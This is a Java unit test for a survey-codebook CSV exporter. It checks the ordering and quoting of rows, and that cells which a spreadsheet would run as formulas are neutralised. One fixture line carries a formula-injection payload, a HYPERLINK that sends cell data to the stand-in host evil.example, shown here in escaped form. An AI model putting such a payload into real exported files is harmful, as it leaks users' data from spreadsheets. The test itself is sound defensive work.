package org.haven.analytics.export;

import org.haven.instrument.Instrument;
import org.haven.instrument.Item;
import org.haven.instrument.Scale;
import org.haven.instrument.Subscale;
import org.haven.instrument.ValueLabel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class CodebookCsvTest {

    @TempDir
    Path folder;

    @Test
    void lists_every_item_of_every_version_by_version_then_instrument_order_with_value_labels() throws IOException {
        Path file = folder.resolve(CodebookCsv.FILE_NAME);
        var three = new Scale("three", 1, 3, List.of(new ValueLabel(1, "no"), new ValueLabel(2, "somewhat"),
                new ValueLabel(3, "yes, fully")));
        var v1 = new Instrument("mini", 1, "mini", List.of(three), List.of(new Subscale("calm", "calm")),
                List.of(new Item("calm_2", "calm", "I stay calm, mostly", false, "three", true),
                        new Item("calm_1r", "calm", "I get \"heated\"", true, "three", true)),
                List.of());
        var v2 = new Instrument("mini", 2, "mini", List.of(three), List.of(new Subscale("calm", "calm")),
                List.of(new Item("calm_2", "calm", "I stay calm, mostly", false, "three", true),
                        new Item("calm_3", "calm", "I listen", false, "three", false),
                        new Item("calm_1r", "calm", "I get \"heated\"", true, "three", true)),
                List.of());

        CodebookCsv.write(List.of(v2, v1), file);

        assertThat(ExportFiles.text(file)).isEqualTo("""
                item_id,subscale,text,reverse,min,max,value_labels,instrument_version,scale_wording,instructions
                calm_2,calm,"I stay calm, mostly",0,1,3,"1=no|2=somewhat|3=yes, fully",1,,
                calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",1,,
                calm_2,calm,"I stay calm, mostly",0,1,3,"1=no|2=somewhat|3=yes, fully",2,,
                calm_3,calm,I listen,0,1,3,"1=no|2=somewhat|3=yes, fully",2,,
                calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",2,,
                """);
    }

    @Test
    void neutralises_texts_labels_and_ids_a_spreadsheet_would_run_as_formulas_but_no_number() throws IOException {
        Path file = folder.resolve(CodebookCsv.FILE_NAME);

        CodebookCsv.write(List.of(FormulaStudy.instrument()), file);

        // Read as it is: an item text that starts with a CR keeps it, quoted, as RFC 4180 allows
        String labels = "'-3=@strongly disagree|-2=disagree|-1=somewhat disagree|0=neutral|1=somewhat agree|2=agree"
                + "|3=strongly agree";
        assertThat(java.nio.file.Files.readString(file)).isEqualTo("""
                item_id,subscale,text,reverse,min,max,value_labels,instrument_version,scale_wording,instructions
                '=1+1,'@calm,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",0,-3,3,%1$s,1,,
                calm_2,'@calm,'+1 when calm,0,-3,3,%1$s,1,,
                trust_1,trust,'-I can rely on my partner.,0,-3,3,%1$s,1,,
                trust_2,trust,'\tI keep checking up on my partner.,0,-3,3,%1$s,1,,
                trust_3,trust,"'\rI feel safe.",0,-3,3,%1$s,1,,
                """.formatted(labels));
    }
}
